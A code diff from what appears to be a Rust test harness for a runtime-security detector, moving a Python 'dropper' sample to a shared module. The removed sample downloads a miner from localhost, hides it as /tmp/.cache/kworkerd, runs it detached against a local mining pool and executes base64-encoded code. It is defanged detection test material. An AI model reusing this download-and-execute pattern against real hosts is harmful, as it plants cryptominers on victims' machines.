@@ -12,29 +12,13 @@ mod containerd;
 mod scc_model;
 
 use agent::{listen, start_agent};
-use common::privileged;
+use common::{privileged, DROPPER};
 use containerd::{Containerd, PodSpec};
 use serde_json::Value;
 use sha2::{Digest, Sha256};
 
 const PYTHON: &str = "Execution: Malicious Python executed";
 
-/// A defanged dropper: download, chmod, execute (never run against anything real: the URL is
-/// a closed port on 127.0.0.1).
-const DROPPER: &str = r#"import os, stat, subprocess, urllib.request
-URL = "http://127.0.0.1:9/xmrig"
-path = "/tmp/.cache/kworkerd"
-os.makedirs(os.path.dirname(path), exist_ok=True)
-try:
-    data = urllib.request.urlopen(URL, timeout=1).read()
-    open(path, "wb").write(data)
-    os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
-    subprocess.Popen([path, "-o", "stratum+tcp://127.0.0.1:3333", "-u", "wallet", "--donate-level", "0"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
-except Exception:
-    pass
-import base64
-exec(base64.b64decode("cHJpbnQoJ2hpJyk="))
-"#;
 
 const BENIGN: &str = "import argparse\n\ndef main():\n    p = argparse.ArgumentParser(description='sum numbers')\n    p.add_argument('n', nargs='*', type=int)\n    print(sum(p.parse_args().n))\n\nif __name__ == '__main__':\n    main()\n";
 
